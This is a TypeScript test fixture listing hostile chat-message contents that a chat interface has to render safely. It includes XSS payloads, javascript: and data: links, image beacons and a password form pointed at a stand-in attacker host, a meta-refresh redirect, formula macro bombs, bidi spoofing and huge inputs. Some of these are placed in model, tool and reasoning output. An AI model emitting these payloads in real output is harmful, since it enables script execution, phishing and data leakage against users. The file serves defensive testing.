import { randomUUID } from 'node:crypto'
import type { MessagePart } from '#contract/message-parts.ts'

/** What a hostile model, tool or document could say. `evil` is a server that must never hear of it. */
export interface Attack {
  readonly name: string
  readonly parts: readonly MessagePart[]
}

const RUN = 'pwned()'
const deep = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times)

const html = (evil: string): Record<string, string> => ({
  script: `<script>${RUN}</script>`,
  'script in a paragraph': `Hello <script>${RUN}</script> there`,
  'script from elsewhere': `<script src="${evil}/a.js"></script>`,
  'module script': `<script type="module">import "${evil}/m.js"</script>`,
  'broken script tag': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'image that fails': `<img src=x onerror="${RUN}">`,
  'image that fails, unquoted': `<img/src=x/onerror=${RUN}>`,
  'image that fails, in capitals': `<IMG SRC=x OnErRoR=${RUN}>`,
  'image that fails, half closed': `<img src=x onerror=${RUN}//`,
  'svg onload': `<svg onload=${RUN}></svg>`,
  'svg with a script': `<svg><script>${RUN}</script></svg>`,
  'svg animation': `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  'svg foreign object': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'svg use': `<svg><use href="${evil}/s.svg#x"/></svg>`,
  'svg image': `<svg><image href="${evil}/svg-image.png"/></svg>`,
  'mathml link': `<math><mtext><a href="javascript:${RUN}">x</a></mtext></math>`,
  'mathml mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'noscript mutation': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'details toggle': `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  autofocus: `<input autofocus onfocus=${RUN}>`,
  'body onload': `<body onload=${RUN}>`,
  'video error': `<video src="${evil}/v.mp4" poster="${evil}/poster.png" onerror=${RUN}></video>`,
  audio: `<audio autoplay src="${evil}/a.mp3" onerror=${RUN}></audio>`,
  iframe: `<iframe src="${evil}/frame"></iframe>`,
  'iframe script': `<iframe src="javascript:parent.${RUN}"></iframe>`,
  'iframe document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  object: `<object data="${evil}/o"></object>`,
  embed: `<embed src="${evil}/e">`,
  stylesheet: `<link rel="stylesheet" href="${evil}/s.css">`,
  prefetch: `<link rel="prefetch" href="${evil}/prefetch">`,
  'style element': `<style>@import "${evil}/import.css"; body{background:url(${evil}/bg.png)}</style>`,
  'style attribute': `<p style="background:url(${evil}/style-attribute.png)">x</p>`,
  'cover the page': `<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in again</div>`,
  form: `<form action="${evil}/form"><input name=password><button>Sign in</button></form>`,
  base: `<base href="${evil}/">`,
  'image set': `<img srcset="${evil}/srcset.png 1x">`,
  picture: `<picture><source srcset="${evil}/source.png"><img></picture>`,
  'table background': `<table background="${evil}/table.png"><tr><td>x</table>`,
  comment: `<!-- <script>${RUN}</script> -->`,
  'comment that ends oddly': `<!--><img src=x onerror=${RUN}>-->`,
  'conditional comment': `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  cdata: `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  'processing instruction': `<?xml-stylesheet href="${evil}/pi.xsl"?><img src=x onerror=${RUN}>`,
  template: `<template><img src=x onerror=${RUN}></template>`,
  plaintext: `<plaintext><img src=x onerror=${RUN}>`,
  marquee: `<marquee onstart=${RUN}>x</marquee>`,
  'html in bold': `**<img src=x onerror=${RUN}>**`,
  'html in a table': `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  'html in a list': `- <svg onload=${RUN}>\n- <img src=x onerror=${RUN}>`,
  'html in a heading': `# <img src=x onerror=${RUN}>`,
  'html as references': `&lt;img src=x onerror=${RUN}&gt; &#60;img src=x onerror=${RUN}&#62;`,
})

const links = (evil: string): Record<string, string> => ({
  'javascript link': `[press me](javascript:${RUN})`,
  'javascript link in capitals': `[press me](JaVaScRiPt:${RUN})`,
  'javascript link with a tab': `[press me](java&#9;script:${RUN})`,
  'javascript link with a line end': `[press me](<java\nscript:${RUN}>)`,
  'javascript link as references': `[press me](&#106;avascript&colon;${RUN})`,
  'javascript link with a control character': `[press me](\u0001javascript:${RUN})`,
  'javascript reference link': `[press me][x]\n\n[x]: javascript:${RUN}`,
  'javascript autolink': `<javascript:${RUN}>`,
  'javascript title': `[press me](https://example.com "\\" onmouseover=\\"${RUN}")`,
  'javascript image': `![x](javascript:${RUN})`,
  'javascript footnote': `See.[^1]\n\n[^1]: javascript:${RUN}`,
  'data link': `[press me](data:text/html,<script>${RUN}</script>)`,
  'data link, base64': `[press me](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  'vbscript link': `[press me](vbscript:${RUN})`,
  'blob link': `[press me](blob:${evil}/1)`,
  'file link': '[press me](file:///etc/passwd)',
  'view-source link': `[press me](view-source:${evil})`,
  'link that claims another host': `[https://parley.example/sign-in](${evil}/sign-in)`,
  'link with a name before the host': `[press me](https://parley.example@${new URL(evil).host}/)`,
  'link in a link': `[a [b](javascript:${RUN}) c](javascript:${RUN})`,
  'link with html inside': `[<img src=x onerror=${RUN}>](https://example.com)`,
  'protocol-relative link': `[press me](//${new URL(evil).host}/x)`,
  'image beacon': `![x](${evil}/beacon.png?secret)`,
  'image beacon by reference': `![x][b]\n\n[b]: ${evil}/reference.png`,
  'image beacon in a link': `[![x](${evil}/in-link.png)](https://example.com)`,
  'image beacon in a table': `| a |\n|---|\n| ![x](${evil}/in-table.png) |`,
  'image with a hostile description': `![" onerror="${RUN}](${evil}/alt.png)`,
  'svg image as data': `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  'bare address': `Look: ${evil}/bare and www.${new URL(evil).host}/www`,
})

const codeAndFormulas = (evil: string): Record<string, string> => ({
  'fence information': `\`\`\`"><img src=x onerror=${RUN}>\n1\n\`\`\``,
  'fence information that names a class': '```js class=hljs" onload="pwned()\n1\n```',
  'fence of the prototype': '```__proto__\n1\n```\n\n```constructor\n1\n```',
  'html in code': `\`\`\`html\n<script>${RUN}</script>\n<img src=x onerror=${RUN}>\n\`\`\``,
  'html in inline code': `\`<img src=x onerror=${RUN}>\``,
  'script closed in code': `\`\`\`js\n</script><script>${RUN}</script>\n\`\`\``,
  'formula link': `$\\href{javascript:${RUN}}{x}$ and $\\url{javascript:${RUN}}$`,
  'formula image': `$$\\includegraphics{${evil}/formula.png}$$`,
  'formula style': `$\\style{background:url(${evil}/formula-style.png)}{x}$ $\\class{x}{y}$ $\\id{root}{y}$ $\\data{x=1}{y}$`,
  'formula html': `$\\text{<img src=x onerror=${RUN}>}$ $\\html{<script>${RUN}</script>}$`,
  'formula macro bomb': `$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c$`,
  'formula macro loop': '$\\def\\x{\\x\\x}\\x$ $$\\newcommand{\\y}{\\y}\\y$$',
  'formula as large as the page': '$\\rule{99999em}{99999em}$ $\\kern{-99999em}x$ $\\hspace{9999999em}$',
  'formula that changes colour': '$\\color{white}{hidden}$ $\\colorbox{red}{x}$ $\\require{mhchem}$',
  'formula nested deeply': `$${deep('\\sqrt{', '}', 150)}$`,
  'formula of braces': `$$${deep('{', '}', 1_500)}$$`,
  'formula never closed': `$$\\frac{1}{\n\n$x\n\n\\[y`,
})

const shapes: Record<string, string> = {
  'right-to-left override': 'The file is \u202egnp.exe\u202c and \u2066nothing\u2069 else',
  'right-to-left link': '[\u202ehttps://example.com](https://example.org)',
  'never closed directions': '\u202e\u202d\u2067\u2066'.repeat(200),
  'zero width': `pass\u200bword \u200d\u2060\ufeff ${'\u200b'.repeat(5_000)}`,
  'stacked accents': `Z${'\u0351\u0310\u0343'.repeat(500)}algo`,
  'emoji sequences': '👩‍👩‍👧‍👦🏳️‍🌈👍🏿'.repeat(300),
  'lone surrogates and controls': 'a\u0001\u0008\u001b[31m b \ufffe \uffff',
  'quotes in quotes': `${'>'.repeat(3_000)} x`,
  'lists in lists': Array.from({ length: 200 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n'),
  'lists on one line': '- '.repeat(2_000),
  'emphasis without end': '*a **b _c '.repeat(2_000),
  'brackets without end': '['.repeat(5_000),
  'links without end': '[a]('.repeat(3_000),
  'a table of many columns': `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|b'.repeat(2_000)}|`,
  'a table of many rows': `|a|b|c|\n|-|-|-|\n${'|x|y|z|\n'.repeat(4_000)}`,
  'a long word': 'a'.repeat(20_000),
  'many definitions': Array.from({ length: 500 }, (_, at) => `[d${at}]: https://example.com/${at}`).join(
    '\n',
  ),
  'the marks of citations': '\u2e280\u2e29 \u2e2899\u2e29 [1] 【1†source】',
}

const texts = (all: Record<string, string>): Attack[] =>
  Object.entries(all).map(([name, text]) => ({ name, parts: [{ type: 'text', text }] }))

const otherParts = (evil: string): Attack[] => {
  const hostile = `"><img src=x onerror=${RUN}>\u202etxt.exe`
  const source: MessagePart = {
    type: 'source',
    number: 1,
    passageId: randomUUID(),
    documentId: randomUUID(),
    documentName: hostile,
    headingPath: [`<script>${RUN}</script>`, hostile],
    page: 1,
    quote: `<img src="${evil}/quote.png" onerror=${RUN}>`,
    documentRange: { start: 0, end: 5 },
    answerRange: { part: 0, start: 0, end: 5 },
  }
  const tool = `<img src=x onerror=${RUN}>`
  const file = (name: string, mediaType: string): MessagePart => ({
    type: 'file',
    fileId: randomUUID(),
    name,
    mediaType,
    sizeBytes: 10,
  })
  return [
    { name: 'source title and quote', parts: [{ type: 'text', text: 'Sure.' }, source] },
    {
      name: 'tool name, input and result',
      parts: [
        { type: 'tool-call', callId: '1', name: tool, input: { query: tool } },
        {
          type: 'tool-result',
          callId: '1',
          name: tool,
          output: `<svg onload=${RUN}>![x](${evil}/tool.png)`,
          isError: false,
        },
      ],
    },
    {
      name: 'thoughts',
      parts: [{ type: 'reasoning', text: `<img src=x onerror=${RUN}> ![x](${evil}/thought.png)` }],
    },
    { name: 'file name', parts: [file(hostile, 'text/html')] },
    { name: 'picture that is none', parts: [file(hostile, 'image/png')] },
    { name: 'picture that is a script', parts: [file('x.svg', 'image/svg+xml')] },
  ]
}

/** What would run, call out or deceive if it were let through. */
export const attacks = (evil: string): Attack[] => [
  ...texts(html(evil)),
  ...texts(links(evil)),
  ...texts(codeAndFormulas(evil)),
  ...otherParts(evil),
]

/** Leads the whole page elsewhere where HTML is let through; no content policy holds that. */
export const refresh = (evil: string): Attack[] =>
  texts({ refresh: `<meta http-equiv="refresh" content="0;url=${evil}/refresh">` })

/** What would bring a page or its reader into disorder. */
export const oddities: Attack[] = [
  ...texts(shapes),
  {
    name: 'tool result without end',
    parts: [
      { type: 'tool-call', callId: '2', name: 'deep', input: null },
      {
        type: 'tool-result',
        callId: '2',
        name: 'deep',
        output: { deep: '<b>'.repeat(200_000) },
        isError: true,
      },
    ],
  },
]

/** What no person would read, and no page may choke on. */
export const heavy: Attack[] = texts({
  'a line of a million characters': 'x'.repeat(1_000_000),
  'a hundred thousand stars': '*a'.repeat(50_000),
  'an address without end': `${'a.'.repeat(50_000)}@`,
  'a hundred thousand quotes': '> '.repeat(100_000),
  'a hundred thousand elements': '<b>'.repeat(100_000),
})
